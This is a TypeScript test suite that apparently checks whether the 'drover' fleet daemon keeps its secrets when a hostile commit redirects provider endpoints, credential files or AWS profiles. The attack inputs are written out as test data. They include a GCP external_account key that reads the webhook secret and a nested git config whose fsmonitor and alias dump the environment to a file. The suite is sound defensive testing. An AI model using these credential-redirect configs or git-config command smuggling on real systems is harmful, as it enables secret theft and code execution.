/**
 * The attacker's side of the trust boundary (issue 17): a real `drover run` with the operator's
 * secrets on its host (an API token file, a webhook secret file, AWS keys in its environment and a
 * second AWS profile), following a repository the attacker can push to. Each commit tries one way to
 * make drover send a secret to a server the commit chooses or act with an identity the commit picks:
 * a new Proxmox Provider with its own endpoint, token secret file and insecureSkipVerify; one that
 * names an env variable as its secret and trusts a CA committed to the repository (read back from
 * the state directory's checkout); a GCP Provider whose key file is a committed external_account
 * JSON (credential_source.file = the webhook secret, token_url = the recorder); and the operator's
 * own AWS Provider re-pointed at another profile. The verdict is what reached the recording servers
 * (https and http, on loopback) and the EC2 simulator (behind a recording proxy), not what drover
 * says; everything drover wrote is then scanned for every canary.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { IncomingMessage, Server, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { startEc2Simulator } from '../../providers/aws/sim.ts';
import type { Ec2Simulator } from '../../providers/aws/sim.ts';
import { TAG as AWS_TAG } from '../../providers/aws/tags.ts';
import { digestTag, templateDescription } from '../../providers/proxmox/ownership.ts';
import { startProxmoxSimulator } from '../../providers/proxmox/sim.ts';
import type { ProxmoxSimulator } from '../../providers/proxmox/sim.ts';
import { selfSignedCertificate } from '../../src/sim/tls.ts';
import { isReady, plannedAt, startDaemon } from '../helpers/daemon-process.ts';
import type { DaemonProcess, DaemonStatus } from '../helpers/daemon-process.ts';
import { drover } from '../cli/drover-process.ts';
import { tempDir, TestRepo, testGitEnv } from '../source/helpers.ts';
import type { Capture, RecordingProxy } from './secrets-harness.ts';
import { describeLeaks, makeCanaries, scan, startRecordingProxy } from './secrets-harness.ts';

const FLEET = 'attacked';
const DIGEST = `sha256:${'a'.repeat(64)}`;
const AMI = 'ami-0000000000000000a';

/** A server that answers everything 200 and records every request it gets. */
interface Recorder {
  readonly url: string;
  readonly requests: { method: string; url: string; headers: string; body: string }[];
  close(): Promise<void>;
}

async function startRecorder(tls?: { key: string; cert: string }): Promise<Recorder> {
  const requests: Recorder['requests'] = [];
  const handler = (req: IncomingMessage, res: ServerResponse) => {
    let body = '';
    req.on('data', (c: Buffer) => {
      body += c.toString();
    });
    req.on('end', () => {
      requests.push({ method: req.method ?? '', url: req.url ?? '', headers: JSON.stringify(req.headers), body });
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"data":[],"access_token":"x","expires_in":3600}');
    });
  };
  const server: Server = tls === undefined ? createHttpServer(handler) : createHttpsServer(tls, handler);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `${tls === undefined ? 'http' : 'https'}://127.0.0.1:${port}`,
    requests,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

const image = (extra = '') =>
  `apiVersion: drover/v1\nkind: Image\nmetadata: { name: web }\nspec:\n  digest: ${DIGEST}\n  artifacts:\n    aws: { id: ${AMI} }\n${extra}`;
const base = [
  `apiVersion: drover/v1\nkind: Fleet\nmetadata: { name: ${FLEET} }\n`,
  'apiVersion: drover/v1\nkind: VmGroup\nmetadata: { name: web-aws }\nspec:\n  provider: aws\n  image: web\n  replicas: 1\n  machine: { type: t3.small }\n  placement: { zones: [eu-west-1a] }\n',
];
const awsProvider = (extra = '') =>
  `apiVersion: drover/v1\nkind: Provider\nmetadata: { name: aws }\nspec:\n  type: aws\n  region: eu-west-1\n${extra}`;
/** The good fleet (AWS only), plus `extra` files and extra artifacts of the image. */
const fleet = (extra: Record<string, string> = {}, artifacts = '') => ({
  'fleet.yaml': [...base, awsProvider()].join('---\n'),
  'image.yaml': image(artifacts),
  ...extra,
});
const PVE_ARTIFACT = '    pve-x: { template: 9000 }\n';
const pveGroup =
  'apiVersion: drover/v1\nkind: VmGroup\nmetadata: { name: lab }\nspec:\n  provider: pve-x\n  image: web\n  replicas: 1\n  machine: { cores: 1, memoryMiB: 512 }\n  placement: { zones: [pve1] }\n';
const gcpGroup =
  'apiVersion: drover/v1\nkind: VmGroup\nmetadata: { name: gce }\nspec:\n  provider: gcp-x\n  image: web\n  replicas: 1\n  machine: { type: e2-small }\n  placement: { zones: [europe-west1-b] }\n';

describe("reliability/secrets-attacker: a commit cannot choose drover's authority", function () {
  this.timeout(180_000);
  const canaries = makeCanaries('attacker-proj-1');
  const adminKeyId = 'AKIAADMINPROFILE0001';
  const adminSecret = `${canaries.awsSecretAccessKey.slice(0, 8)}AdminProfileSecret${canaries.awsSessionToken.slice(-10)}`;
  const captures: Capture[] = [];
  let tmp: { path: string; cleanup: () => void };
  let repo: TestRepo;
  let ec2: Ec2Simulator;
  let ec2Proxy: RecordingProxy;
  let https: Recorder;
  let http: Recorder;
  let daemon: DaemonProcess | undefined;
  let stateDir: string;
  let files: { apiToken: string; webhookSecret: string };
  let tlsPair: { key: string; cert: string };

  /** Commits `files`, waits until drover attempted it, then restores the good fleet and waits for it to converge. */
  const attack = async (changes: Record<string, string>, message: string) => {
    for (const recorder of [https, http]) recorder.requests.length = 0;
    const bad = repo.commit(changes, message);
    await daemon!.waitForStatus((s) => s.source.lastAttemptedRevision === bad || s.source.lastAppliedRevision === bad, 60_000);
    // Whatever the daemon does with the commit, it does in the passes that follow; restoring the
    // good fleet and waiting for a pass planned at it bounds them without a timed wait.
    const good = repo.commit({ ...fleet(), 'attack.yaml': '# reverted\n' }, `revert: ${message}`);
    const s = await daemon!.waitForStatus((x) => isReady(x, 'web-aws') && plannedAt(x, 'web-aws', good), 90_000);
    return { bad, status: s };
  };

  const assertNothingReached = (what: string) => {
    const seen = [...https.requests, ...http.requests].map((r) => `${r.method} ${r.url} ${r.headers} ${r.body}`);
    captures.push({ where: `recorders after ${what}`, text: seen.join('\n') });
    assert.equal(seen.length, 0, `${what}: ${seen.length} request(s) reached the attacker's server, e.g. ${(seen[0] ?? '').slice(0, 300)}`);
  };

  before(async () => {
    tmp = tempDir('drover-attacker-');
    stateDir = path.join(tmp.path, 'state');
    ec2 = await startEc2Simulator({ region: 'eu-west-1', factor: 200, accessKeys: [canaries.awsAccessKeyId, adminKeyId] });
    ec2.addImage({ id: AMI, tags: { [AWS_TAG.digest]: DIGEST } });
    ec2Proxy = await startRecordingProxy(ec2.url);
    tlsPair = await selfSignedCertificate();
    [https, http] = await Promise.all([startRecorder(tlsPair), startRecorder()]);
    files = { apiToken: path.join(tmp.path, 'api-token'), webhookSecret: path.join(tmp.path, 'webhook-secret') };
    writeFileSync(files.apiToken, `${canaries.apiToken}\n`, { mode: 0o600 });
    writeFileSync(files.webhookSecret, `${canaries.webhookSecret}\n`, { mode: 0o600 });
    const aws = path.join(tmp.path, 'aws');
    mkdirSync(aws);
    writeFileSync(path.join(aws, 'config'), '[default]\nregion = eu-west-1\n[profile admin]\nregion = eu-west-1\n');
    writeFileSync(path.join(aws, 'credentials'), `[admin]\naws_access_key_id = ${adminKeyId}\naws_secret_access_key = ${adminSecret}\n`, {
      mode: 0o600,
    });
    repo = new TestRepo(tmp.path);
    // The attacker's files arrive first in an innocent-looking commit: they land in the checkout.
    const external = {
      type: 'external_account',
      audience: '//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x',
      subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
      token_url: `${http.url}/token`,
      credential_source: { file: files.webhookSecret },
    };
    repo.commit(
      { ...fleet(), 'attack/ca.pem': tlsPair.cert, 'attack/key.json': JSON.stringify(external), 'attack.yaml': '# nothing yet\n' },
      'initial fleet',
    );
    daemon = await startDaemon(
      {
        DROVER_SOURCE__GIT__URL: repo.url,
        DROVER_SOURCE__GIT__INTERVAL: '300ms',
        DROVER_STATE_DIR: stateDir,
        DROVER_PROGRESS_INTERVAL: '200ms',
        DROVER_RESYNC_INTERVAL: '1s',
        DROVER_LOG__LEVEL: 'trace',
        DROVER_HEALTH__PROBES: 'false',
        DROVER_API__TOKEN_FILE: files.apiToken,
        DROVER_WEBHOOK__SECRET_FILE: files.webhookSecret,
        DROVER_PROVIDERS__AWS__TYPE: 'aws',
        DROVER_ENDPOINT_AWS: ec2Proxy.url,
        DROVER_PROVIDERS__AWS__LIST_LAG_SECONDS: '2',
        AWS_ACCESS_KEY_ID: canaries.awsAccessKeyId,
        AWS_SECRET_ACCESS_KEY: canaries.awsSecretAccessKey,
        AWS_REGION: 'eu-west-1',
        AWS_CONFIG_FILE: path.join(aws, 'config'),
        AWS_SHARED_CREDENTIALS_FILE: path.join(aws, 'credentials'),
        PVE_TOKEN_SECRET: canaries.pveSecret,
      },
      canaries.apiToken,
    );
    await daemon.waitForStatus((s: DaemonStatus) => isReady(s, 'web-aws'), 90_000);
  });

  after(async () => {
    await daemon?.kill();
    await Promise.all([ec2Proxy?.close(), ec2?.close(), https?.close(), http?.close()]);
    tmp?.cleanup();
  });

  it('a new Proxmox Provider with its own endpoint, the API token file as its secret and insecureSkipVerify reaches nothing', async () => {
    const pve = `apiVersion: drover/v1\nkind: Provider\nmetadata: { name: pve-x }\nspec:\n  type: proxmox\n  endpoint: ${https.url}\n  nodes: [pve1]\n  credentials: { tokenId: "root@pam!x", secretFile: ${files.apiToken} }\n  tls: { insecureSkipVerify: true }\n`;
    const { bad, status } = await attack(
      fleet({ 'attack.yaml': [pve, pveGroup].join('---\n') }, PVE_ARTIFACT),
      'pve-x: endpoint + secretFile + insecureSkipVerify',
    );
    assert.notEqual(status.source.lastAppliedRevision, bad);
    assertNothingReached('pve-x');
  });

  it('a Proxmox Provider naming an env secret and trusting a CA committed to the repository reaches nothing', async () => {
    const caFile = path.join(stateDir, 'source', 'current', 'attack', 'ca.pem');
    const pve = `apiVersion: drover/v1\nkind: Provider\nmetadata: { name: pve-x }\nspec:\n  type: proxmox\n  endpoint: ${https.url}\n  nodes: [pve1]\n  credentials: { tokenId: "root@pam!x", secretEnv: AWS_SECRET_ACCESS_KEY }\n  tls: { caFile: ${caFile} }\n`;
    await attack(fleet({ 'attack.yaml': [pve, pveGroup].join('---\n') }, PVE_ARTIFACT), 'pve-x: secretEnv + committed CA');
    assertNothingReached('pve-x with a committed CA');
  });

  it('a GCP Provider whose key file is a committed external_account JSON reads and sends nothing', async () => {
    const keyFile = path.join(stateDir, 'source', 'current', 'attack', 'key.json');
    const gcp = `apiVersion: drover/v1\nkind: Provider\nmetadata: { name: gcp-x }\nspec:\n  type: gcp\n  project: attacker-proj-1\n  credentials: { keyFile: ${keyFile} }\n`;
    await attack(
      fleet({ 'attack.yaml': [gcp, gcpGroup].join('---\n') }, '    gcp-x: { id: projects/attacker-proj-1/global/images/web }\n'),
      'gcp-x: external_account key file',
    );
    assertNothingReached('gcp-x external_account');
  });

  it("the operator's AWS Provider cannot be switched to another profile of the host", async () => {
    const before = ec2Proxy.headers.length;
    await attack({ 'fleet.yaml': [...base, awsProvider('  credentials: { profile: admin }\n')].join('---\n') }, 'aws: profile admin');
    const used = ec2Proxy.headers.slice(before).map((h) => String(h.authorization));
    assert.ok(used.length > 0, 'drover kept calling EC2');
    assert.deepEqual(
      used.filter((a) => a.includes(adminKeyId)),
      [],
      'no call was signed with the admin profile',
    );
    assert.ok(
      used.every((a) => a.includes(`Credential=${canaries.awsAccessKeyId}/`)),
      "every call used the operator's credentials",
    );
  });

  it('nothing drover wrote or sent contains a canary', async () => {
    const logs = daemon!.logs;
    assert.equal(await daemon!.stop(), 0);
    daemon = undefined;
    captures.push({ where: 'daemon stdout/stderr', text: logs.join('\n') });
    const canaryList = [...canaries.list, { name: 'aws.adminSecret', value: adminSecret, secret: true }];
    const secrets = scan(captures, canaryList).filter((l) => l.secret);
    assert.deepEqual(secrets, [], `secrets leaked:\n${describeLeaks(secrets)}`);
  });
});

/** The lockdown fleet: AWS and Proxmox, both bound by the operator, plus an attacking file. */
const fleetFiles = (attack = '', artifacts = '') => ({
  'fleet.yaml': [
    ...base,
    awsProvider(),
    `apiVersion: drover/v1\nkind: Provider\nmetadata: { name: pve }\nspec: { type: proxmox, nodes: [pve1] }\n`,
  ].join('---\n'),
  'image.yaml': image(`    pve: { template: 9000 }\n${artifacts}`),
  'attack.yaml': attack === '' ? '# nothing\n' : attack,
});

/** pino's level 40 lines about disabled TLS verification for provider pve. */
const skipVerifyWarnings = (logs: readonly string[]) =>
  logs
    .map((l) => {
      try {
        return JSON.parse(l) as { level: number; msg: string; provider?: string };
      } catch {
        return undefined;
      }
    })
    .filter((l) => l !== undefined && l.level === 40 && l.provider === 'pve' && /TLS verification disabled/.test(l.msg));

describe('reliability/secrets-attacker: lockdown (providers.requireBinding) and unbound providers', function () {
  this.timeout(180_000);
  let tmp: { path: string; cleanup: () => void };
  let repo: TestRepo;
  let ec2: Ec2Simulator;
  let ec2Proxy: RecordingProxy;
  let pve: ProxmoxSimulator;
  let daemon: DaemonProcess | undefined;
  let env: Record<string, string>;
  const token = 'lockdown-api-token-0123456789';

  type WithPass = DaemonStatus & { lastPass?: { providers: { name: string; ok: boolean; reason?: string }[] } };
  const providerReason = (s: WithPass, name: string) => s.lastPass?.providers.find((p) => p.name === name)?.reason;

  before(async () => {
    tmp = tempDir('drover-lockdown-');
    ec2 = await startEc2Simulator({ region: 'eu-west-1', factor: 200, accessKeys: ['AKIALOCKDOWN00000001'] });
    ec2.addImage({ id: AMI, tags: { [AWS_TAG.digest]: DIGEST } });
    ec2Proxy = await startRecordingProxy(ec2.url);
    pve = await startProxmoxSimulator({
      nodes: ['pve1'],
      factor: 200,
      tokens: { 'drover@pve!lock': 'lock-secret' },
      storages: [{ name: 'ceph', shared: true }],
      templates: [{ vmid: 9000, node: 'pve1', storage: 'ceph', description: templateDescription(DIGEST), tags: [digestTag(DIGEST)] }],
    });
    const secretFile = path.join(tmp.path, 'pve-secret');
    writeFileSync(secretFile, 'lock-secret\n', { mode: 0o600 });
    repo = new TestRepo(tmp.path);
    repo.commit(fleetFiles(), 'initial fleet');
    env = {
      DROVER_SOURCE__GIT__URL: repo.url,
      DROVER_SOURCE__GIT__INTERVAL: '300ms',
      DROVER_STATE_DIR: path.join(tmp.path, 'state'),
      DROVER_PROGRESS_INTERVAL: '200ms',
      DROVER_RESYNC_INTERVAL: '1s',
      DROVER_HEALTH__PROBES: 'false',
      DROVER_API__TOKEN_ENV: 'LOCK_TOKEN',
      LOCK_TOKEN: token,
      DROVER_PROVIDERS__REQUIRE_BINDING: 'true',
      DROVER_PROVIDERS__AWS__TYPE: 'aws',
      DROVER_PROVIDERS__AWS__ENDPOINT: ec2Proxy.url,
      DROVER_PROVIDERS__AWS__LIST_LAG_SECONDS: '2',
      DROVER_PROVIDERS__PVE__TYPE: 'proxmox',
      DROVER_PROVIDERS__PVE__ENDPOINT: pve.url,
      DROVER_PROVIDERS__PVE__INSECURE_SKIP_VERIFY: 'true',
      DROVER_PROVIDERS__PVE__CREDENTIALS__TOKEN_ID: 'drover@pve!lock',
      DROVER_PROVIDERS__PVE__CREDENTIALS__SECRET_FILE: secretFile,
      AWS_ACCESS_KEY_ID: 'AKIALOCKDOWN00000001',
      AWS_SECRET_ACCESS_KEY: 'lockdown-secret',
      AWS_REGION: 'eu-west-1',
    };
    daemon = await startDaemon(env, token);
    await daemon.waitForStatus((s) => isReady(s, 'web-aws'), 90_000);
  });

  after(async () => {
    await daemon?.kill();
    await Promise.all([ec2Proxy?.close(), ec2?.close(), pve?.close()]);
    tmp?.cleanup();
  });

  it("the operator's bindings work: AWS at its bound endpoint, Proxmox with its bound token", async () => {
    const s = (await daemon!.waitForStatus(
      (x) => (x as WithPass).lastPass?.providers.find((p) => p.name === 'pve')?.ok === true,
      60_000,
    )) as WithPass;
    assert.equal(providerReason(s, 'pve'), undefined);
    assert.ok(ec2Proxy.headers.length > 0, 'EC2 calls went to the bound endpoint');
  });

  it('insecureSkipVerify is a warning in the JSON log at every start', async () => {
    await daemon!.waitForStatus((x) => (x as WithPass).lastPass?.providers.find((p) => p.name === 'pve')?.ok === true, 60_000);
    assert.equal(skipVerifyWarnings(daemon!.logs).length, 1, 'one warning at the first start');
    assert.equal(await daemon!.stop(), 0);
    daemon = await startDaemon(env, token);
    await daemon.waitForStatus((x) => (x as WithPass).lastPass?.providers.find((p) => p.name === 'pve')?.ok === true, 60_000);
    assert.equal(skipVerifyWarnings(daemon.logs).length, 1, 'and again after a restart');
  });

  it('a new Provider name the config does not bind is Stalled ProviderNotBound and is never called', async () => {
    const before = ec2Proxy.headers.length;
    const attack = [
      'apiVersion: drover/v1\nkind: Provider\nmetadata: { name: aws-x }\nspec: { type: aws, region: eu-west-1 }\n',
      'apiVersion: drover/v1\nkind: VmGroup\nmetadata: { name: web-x }\nspec:\n  provider: aws-x\n  image: web\n  replicas: 1\n  machine: { type: t3.small }\n  placement: { zones: [eu-west-1a] }\n',
    ].join('---\n');
    const head = repo.commit(fleetFiles(attack, '    aws-x: { id: ami-0000000000000000a }\n'), 'aws-x: a new name');
    const s = (await daemon!.waitForStatus(
      (x) => x.source.lastAppliedRevision === head && providerReason(x as WithPass, 'aws-x') !== undefined,
      60_000,
    )) as WithPass;
    assert.equal(providerReason(s, 'aws-x'), 'ProviderNotBound', JSON.stringify(s.lastPass));
    const group = s.groups.find((g) => g.name === 'web-x');
    assert.ok(
      group?.conditions.some((c) => c.type === 'Stalled' && c.status === 'True' && c.reason === 'ProviderNotBound'),
      JSON.stringify(group),
    );
    assert.deepEqual(
      ec2.world
        .all()
        .filter((i) => i.tags[AWS_TAG.group] === 'web-x')
        .map((i) => i.id),
      [],
      "no instance of the unbound provider's group",
    );
    assert.ok(ec2Proxy.headers.length > before, 'the bound provider kept working');
  });
});

describe('reliability/secrets-attacker: drover plan on a checkout whose commit holds a nested repository', function () {
  this.timeout(120_000);
  let tmp: { path: string; cleanup: () => void };
  let victim: string;
  let pwned: string;
  const secret = 'nested-repo-canary-secret-0123456789';

  before(() => {
    tmp = tempDir('drover-nested-');
    pwned = path.join(tmp.path, 'PWNED-env');
    const repo = new TestRepo(tmp.path);
    // The commit turns fleet/ into a directory git recognises as a repository, whose config runs a command.
    const first = repo.commit({ README: 'fleet repository\n' }, 'first');
    // Its HEAD names the previous commit, whose objects it borrows from the checkout's own repository.
    repo.commit(
      {
        'fleet/refs/heads/main': `${first}\n`,
        'fleet/objects/info/alternates': '../../.git/objects\n',
        'fleet/fleet.yaml': `apiVersion: drover/v1\nkind: Fleet\nmetadata: { name: ${FLEET} }\n`,
        'fleet/HEAD': 'ref: refs/heads/main\n',
        'fleet/config': `[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = "env > ${pwned}; echo"\n[alias]\n\tstatus = !env > ${pwned}\n`,
        'ca.pem': 'not really a CA\n',
      },
      'a fleet with a nested repository',
    );
    victim = path.join(tmp.path, 'victim');
    execFileSync('git', ['clone', '-q', repo.url, victim], { env: testGitEnv(repo.home), stdio: 'ignore' });
  });

  after(() => tmp?.cleanup());

  it('runs nothing from the commit and hands git no secret (plan and apply)', async () => {
    // A `git` first on PATH records the environment and arguments of every git child drover starts.
    const bin = path.join(tmp.path, 'bin');
    const record = path.join(tmp.path, 'git-children');
    const realGit = execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim();
    mkdirSync(bin, { recursive: true });
    writeFileSync(path.join(bin, 'git'), `#!/bin/sh\n{ echo "ARGS $*"; env; } >> '${record}'\nexec '${realGit}' "$@"\n`, { mode: 0o755 });
    for (const command of ['plan', 'apply']) {
      const result = await drover([command, path.join(victim, 'fleet'), '--no-probes', '--state-dir', path.join(tmp.path, 'state')], {
        PATH: `${bin}:${process.env['PATH'] ?? ''}`,
        AWS_SECRET_ACCESS_KEY: secret,
        PVE_TOKEN_SECRET: secret,
        DROVER_AZURE_TOKEN: secret,
      });
      assert.equal(
        existsSync(pwned),
        false,
        `${command}: the commit's fsmonitor ran: ${existsSync(pwned) ? readFileSync(pwned, 'utf8').slice(0, 200) : ''}`,
      );
      assert.equal(result.code, 0, result.stdout + result.stderr);
      if (command === 'plan')
        assert.match(result.stdout, /^revision [0-9a-f]{12}$/m, `the revision is the checkout's commit: ${result.stdout}`);
    }
    const children = readFileSync(record, 'utf8');
    assert.match(children, /^ARGS /m, 'drover ran git');
    assert.equal(children.includes(secret), false, 'a git child inherited a secret variable');
    for (const line of children.split('\n').filter((l) => l.startsWith('ARGS '))) {
      assert.match(line, /--git-dir=\S+\/victim\/\.git /, `git runs on the checkout's own repository, never one it discovers: ${line}`);
      assert.match(line, /-c core\.fsmonitor=false/, line);
    }
  });

  it('the untrusted root is the real checkout, not the nested repository', async () => {
    const config = path.join(tmp.path, 'drover.yaml');
    writeFileSync(
      config,
      `providers:\n  aws:\n    type: aws\n    endpoint: http://127.0.0.1:9\n    caFile: ${path.join(victim, 'ca.pem')}\n`,
    );
    writeFileSync(
      path.join(victim, 'fleet', 'provider.yaml'),
      'apiVersion: drover/v1\nkind: Provider\nmetadata: { name: aws }\nspec: { type: aws, region: eu-west-1 }\n',
    );
    const result = await drover(
      ['plan', path.join(victim, 'fleet'), '--no-probes', '--config', config, '--state-dir', path.join(tmp.path, 'state')],
      { AWS_SECRET_ACCESS_KEY: secret },
    );
    assert.equal(result.code, 1, result.stdout + result.stderr);
    assert.match(result.stderr, /providers\.aws\.caFile "[^"]*victim\/ca\.pem" lies inside "[^"]*victim"/);
  });
});

describe('reliability/secrets-attacker: an endpoint without a typed binding is never handed to another cloud', function () {
  this.timeout(120_000);
  let tmp: { path: string; cleanup: () => void };
  let recorder: Recorder;
  const token = 'azure-token-canary-0123456789';
  before(async () => {
    tmp = tempDir('drover-typeless-');
    recorder = await startRecorder();
    mkdirSync(path.join(tmp.path, 'fleet'));
    // The operator pointed provider aws-eu at an AWS endpoint; a commit made aws-eu an Azure Provider.
    writeFileSync(
      path.join(tmp.path, 'fleet', 'fleet.yaml'),
      [
        `apiVersion: drover/v1\nkind: Fleet\nmetadata: { name: ${FLEET} }\n`,
        'apiVersion: drover/v1\nkind: Provider\nmetadata: { name: aws-eu }\nspec: { type: azure, subscriptionId: 3f2b8c1e-5d4a-4e7b-9c0d-1a2b3c4d5e6f, resourceGroup: rg-prod, location: westeurope }\n',
      ].join('---\n'),
    );
  });
  after(async () => {
    await recorder?.close();
    tmp?.cleanup();
  });

  const plan = (env: Record<string, string>, config?: string) =>
    drover(
      [
        'plan',
        path.join(tmp.path, 'fleet'),
        '--no-probes',
        '--state-dir',
        path.join(tmp.path, 'state'),
        ...(config === undefined ? [] : ['--config', config]),
      ],
      { DROVER_AZURE_TOKEN: token, ...env },
    );

  it('DROVER_ENDPOINT_<NAME> alone: refused, naming the type variable; nothing reaches the endpoint', async () => {
    const result = await plan({ DROVER_ENDPOINT_AWS_EU: recorder.url });
    assert.equal(recorder.requests.length, 0, `the Azure token reached the AWS endpoint: ${JSON.stringify(recorder.requests[0])}`);
    assert.notEqual(result.code, 0, result.stdout);
    assert.match(
      result.stderr,
      /DROVER_ENDPOINT_AWS_EU is set, but the operator's config does not bind provider aws-eu to a type: set DROVER_PROVIDERS__AWS_EU__TYPE/,
    );
  });

  it('a config binding without type: refused at file:line:col; nothing reaches the endpoint', async () => {
    const config = path.join(tmp.path, 'drover.yaml');
    writeFileSync(config, `providers:\n  aws-eu: { endpoint: "${recorder.url}" }\n`);
    const result = await plan({}, config);
    assert.equal(recorder.requests.length, 0, `the Azure token reached the AWS endpoint: ${JSON.stringify(recorder.requests[0])}`);
    assert.equal(result.code, 1, result.stdout + result.stderr);
    assert.match(result.stderr, /drover\.yaml:2:\d+: missing required field 'type' in 'providers\.aws-eu'/);
  });

  it('with the type bound to aws, the Azure document under that name is refused and nothing is sent', async () => {
    const result = await plan({ DROVER_ENDPOINT_AWS_EU: recorder.url, DROVER_PROVIDERS__AWS_EU__TYPE: 'aws' });
    assert.equal(recorder.requests.length, 0, `the Azure token reached the AWS endpoint: ${JSON.stringify(recorder.requests[0])}`);
    assert.match(result.stdout + result.stderr, /binding providers\.aws-eu is for type aws, but the Provider document is azure/);
  });
});

describe('reliability/secrets-attacker: no operator file may lie where a commit writes', function () {
  this.timeout(300_000);
  let tmp: { path: string; cleanup: () => void };
  let repo: TestRepo;
  let stateDir: string;
  let checkout: string;
  before(() => {
    tmp = tempDir('drover-opfiles-');
    stateDir = path.join(tmp.path, 'state');
    repo = new TestRepo(tmp.path);
    repo.commit({ 'fleet.yaml': `apiVersion: drover/v1\nkind: Fleet\nmetadata: { name: ${FLEET} }\n` }, 'fleet');
    // Where a commit's files land (the state dir's checkout); the attacker's "token" is committed there.
    checkout = path.join(stateDir, 'source', 'current');
    mkdirSync(checkout, { recursive: true });
    for (const name of ['token', 'allowed_signers', 'key.asc', 'id_ed25519', 'known_hosts'])
      writeFileSync(path.join(checkout, name), 'committed-by-attacker\n');
    mkdirSync(path.join(tmp.path, 'operator'));
    writeFileSync(path.join(tmp.path, 'operator', 'token'), 'operator-token-0123456789\n');
    // A symlink outside the state dir that resolves into it is the same file.
    symlinkSync(path.join(checkout, 'token'), path.join(tmp.path, 'operator', 'innocent-token'));
  });
  after(() => tmp?.cleanup());

  const run = (env: Record<string, string>) =>
    drover(['run'], {
      DROVER_SOURCE__GIT__URL: repo.url,
      DROVER_STATE_DIR: stateDir,
      DROVER_LISTEN: '127.0.0.1:0',
      DROVER_HEALTH__PROBES: 'false',
      ...env,
    });

  const cases: [string, Record<string, string>][] = [
    ['api.tokenFile', { DROVER_API__TOKEN_FILE: '<checkout>/token' }],
    ['api.tokenFile', { DROVER_API__TOKEN_FILE: '<operator>/innocent-token' }],
    ['webhook.secretFile', { DROVER_WEBHOOK__SECRET_FILE: '<checkout>/token' }],
    [
      'source.git.verify.sshAllowedSignersFile',
      { DROVER_SOURCE__GIT__VERIFY__MODE: 'head', DROVER_SOURCE__GIT__VERIFY__SSH_ALLOWED_SIGNERS_FILE: '<checkout>/allowed_signers' },
    ],
    [
      'source.git.verify.gpgPublicKeyFiles[0]',
      { DROVER_SOURCE__GIT__VERIFY__MODE: 'head', DROVER_SOURCE__GIT__VERIFY__GPG_PUBLIC_KEY_FILES: '[<checkout>/key.asc]' },
    ],
    ['source.git.auth.tokenFile', { DROVER_SOURCE__GIT__AUTH__TOKEN_FILE: '<checkout>/token' }],
    ['providers.aws.caFile', { DROVER_PROVIDERS__AWS__TYPE: 'aws', DROVER_PROVIDERS__AWS__CA_FILE: '<checkout>/key.asc' }],
  ];
  for (const [setting, raw] of cases) {
    it(`refuses ${setting} inside the state directory at start (${Object.values(raw)
      .at(-1)!
      .replace(/^\[?<(\w+)>.*/, '$1')})`, async () => {
      const env = Object.fromEntries(
        Object.entries(raw).map(([k, v]) => [k, v.replace('<checkout>', checkout).replace('<operator>', path.join(tmp.path, 'operator'))]),
      );
      const result = await run(env);
      assert.equal(result.code, 2, `the daemon started with ${setting} in the state directory:\n${result.stderr.slice(0, 500)}`);
      assert.match(
        result.stderr,
        new RegExp(`${setting.replace(/[.[\]]/g, '\\$&')} "[^"]+" lies inside the state directory "${stateDir}"`),
      );
    });
  }
});
